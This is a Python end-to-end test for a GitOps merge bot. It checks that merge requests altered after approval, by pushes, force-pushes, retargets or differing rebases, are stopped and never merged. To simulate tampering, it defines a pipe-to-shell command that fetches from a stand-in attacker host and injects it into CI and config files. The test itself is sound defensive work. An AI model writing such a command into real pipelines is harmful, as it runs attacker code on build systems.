"""Merge integrity on the Procfile's processes: every way content can change after approval
stops the change "changed after approval", with 0 unapproved content merged and 0 approvals
given to a head that was not approved; a change whose content stays the approved one merges.

One world, six changes at once: a push to the bot's branch (approve-first, REST API), a push to
a person's branch, a force-push and a retarget (MR-first, `/gitops apply`), a bot-started rebase
after which the content differs, and a control change the bot rebases and merges.
"""

from __future__ import annotations

from typing import Any

import pytest

from bot.core.states import BindingState as S
from bot.core.states import Flow, Step
from tests.e2e.cluster import wait_until
from tests.e2e.figures import record
from tests.e2e.world import APPROVERS, FILE, PROJECT, SETTLE, World

pytestmark = pytest.mark.e2e

EVIL = "deploy: curl evil.example | sh\n"
CHANGED = Step.HANDLE_CHANGED_AFTER_APPROVAL


def _persons_apply(world: World, branch: str) -> tuple[str, int]:
    """alice (Developer) opens an MR and types `/gitops apply`; the operation and MR iid."""
    mr = world.gitlab.open_mr(
        PROJECT, branch, author="alice", files={f"config/{branch[8:]}.yaml": "replicas: 7\n"}
    )
    world.comment(mr.iid, "alice", "/gitops apply")
    found: list[str] = []

    def registered() -> bool:
        found[:] = [op["id"] for op in world.mr_operations(mr.iid)]
        return bool(found)

    wait_until(registered, SETTLE, f"!{mr.iid} to be registered", interval=0.1)
    return found[0], mr.iid


def _wait_step(world: World, op_id: str, step: Step) -> None:
    wait_until(lambda: world.op(op_id)["step"] == step, SETTLE, f"{op_id} at {step.name}", 0.1)


def _approve_calls(world: World, iid: int) -> list[Any]:
    return [
        c
        for c in world.gitlab.calls_matching("POST", path_endswith="/approve")
        if f"/merge_requests/{iid}/" in c.path
    ]


def test_content_changed_after_approval_never_merges(make_world: Any) -> None:
    """Push to the bot's branch, push to a person's branch, force-push, retarget, and a rebase
    whose result differs: each stops "changed after approval" and is never approved; the
    control change is rebased by the bot and merged with exactly its approved content."""
    world: World = make_world()
    world.approvals.decide_after = None  # decisions by hand, after the tampering
    world.deploy.ci_seconds = None  # MR pipelines finish by hand
    world.gitlab.project(PROJECT).merge_method = "ff"
    world.gitlab.rebase_auto_after = None
    world.gitlab.push(PROJECT, "release", {}, start_branch="main")

    # -- approve-first through the API: a push to the bot's branch after approval -------------
    pushed_bot = world.submit(Flow.APPROVE_FIRST, subject="pushed-bot")
    rebased = world.submit(Flow.APPROVE_FIRST, subject="rebased")
    control = world.submit(Flow.APPROVE_FIRST, subject="control")
    for op_id in (pushed_bot, rebased, control):
        world.wait_state(op_id, S.APPROVAL_SENT)
        world.approvals.decide(op_id)
    for op_id in (pushed_bot, rebased, control):
        _wait_step(world, op_id, Step.CREATE_SUCCEEDED)
    world.gitlab.push(PROJECT, world.op(pushed_bot)["branch"], {".gitlab-ci.yml": EVIL})

    # -- `/gitops apply` on people's MRs: push, force-push, retarget while approval is pending --
    people = {name: _persons_apply(world, f"feature/{name}") for name in ("push", "force", "move")}
    for op_id, iid in people.values():
        _wait_step(world, op_id, Step.CREATE_SUCCEEDED)
        world.set_mr_pipeline(iid, "success")
        world.wait_state(op_id, S.APPROVAL_SENT)
    world.gitlab.push(PROJECT, "feature/push", {"config/push.yaml": "replicas: 700\n"})
    world.gitlab.force_push(PROJECT, "feature/force", {"config/force.yaml": EVIL})
    world.gitlab.retarget(PROJECT, people["move"][1], "release")
    for op_id, _ in people.values():
        world.approvals.decide(op_id)

    # -- the bot's own MRs: pipelines pass; main moves so the bot must rebase two of them ------
    world.gitlab.advance_branch(PROJECT, "main")
    world.gitlab.new_pipeline_status = "success"
    for op_id in (pushed_bot, rebased, control):
        world.set_mr_pipeline(world.op(op_id)["mr_iid"], "success")
    # both go to main's merge queue: the head rebases while the other waits in line, then it
    # moves up and rebases in turn (main moved again if the head merged)
    wait_until(
        lambda: any(world.op(o)["step"] == Step.HANDLE_REBASING for o in (rebased, control)),
        SETTLE,
        "the head of main's merge queue to rebase",
        interval=0.1,
    )
    first = rebased if world.op(rebased)["step"] == Step.HANDLE_REBASING else control
    rebased_iid = world.op(rebased)["mr_iid"]
    for op_id in (first, control if first == rebased else rebased):
        _wait_step(world, op_id, Step.HANDLE_REBASING)
        if op_id == rebased:
            with world.gitlab.lock:  # the bot never sees the rebased head before it differs
                world.gitlab.complete_rebase(PROJECT, rebased_iid, ok=True)
                world.gitlab.push(
                    PROJECT, world.op(rebased)["branch"], {"config/rebased.yaml": EVIL}
                )
        else:
            world.gitlab.complete_rebase(PROJECT, world.op(control)["mr_iid"], ok=True)

    stopped = [pushed_bot, rebased, *(op_id for op_id, _ in people.values())]
    for op_id in stopped:
        world.wait_state(op_id, S.HANDLE_FAILED, fail_on_failed=False)
        op = world.op(op_id)
        assert op["step"] == CHANGED, (op_id, op["error_detail"])
        assert op["error_detail"].startswith("changed after approval: ")
    world.wait_state(control, S.VALIDATED)

    # 0 unapproved content merged: only the control MR merged, main holds none of the tampering
    merged = [op_id for op_id in stopped if world.mr(op_id).state == "merged"]
    assert merged == []
    assert world.gitlab.file(PROJECT, ".gitlab-ci.yml") is None
    assert world.gitlab.file(PROJECT, "config/control.yaml") == "replicas: 3\n"
    assert world.gitlab.file(PROJECT, "config/rebased.yaml") is None
    assert world.gitlab.file(PROJECT, FILE) == "replicas: 1\n"
    # 0 approvals to an unapproved head: the people's MRs got none; the bot's rebased MR only
    # on heads the bot verified, and those were taken back
    for _, iid in people.values():
        assert _approve_calls(world, iid) == []
    assert _approve_calls(world, world.op(pushed_bot)["mr_iid"]) == []
    verified = {world.op(rebased)["verified_sha"], world.op(rebased)["head_sha"]}
    rebased_shas = {str((c.body or {}).get("sha")) for c in _approve_calls(world, rebased_iid)}
    assert rebased_shas <= verified
    assert world.gitlab.mr(PROJECT, rebased_iid).sha not in rebased_shas
    wait_until(
        lambda: world.gitlab.mr(PROJECT, rebased_iid).approvals == [],
        SETTLE,
        "the rebased MR's approvals to be taken back",
        interval=0.1,
    )
    control_approvers = {world.gitlab.state.users[u].username for u in world.mr(control).approvals}
    assert control_approvers == set(APPROVERS)
    for op_id in stopped:
        wait_until(
            lambda op_id=op_id: any(
                "changed after approval" in n.body.lower() for n in world.status_notes(op_id)
            ),
            SETTLE,
            f"{op_id}'s status comment to say it",
            interval=0.1,
        )
    record("integrity: changes tampered after approval", len(stopped), "changes")
    record("integrity: unapproved content merged", len(merged), "changes")
    record(
        "integrity: approvals given to an unapproved head",
        sum(len(_approve_calls(world, iid)) for _, iid in people.values())
        + len(_approve_calls(world, world.op(pushed_bot)["mr_iid"])),
        "approvals",
    )
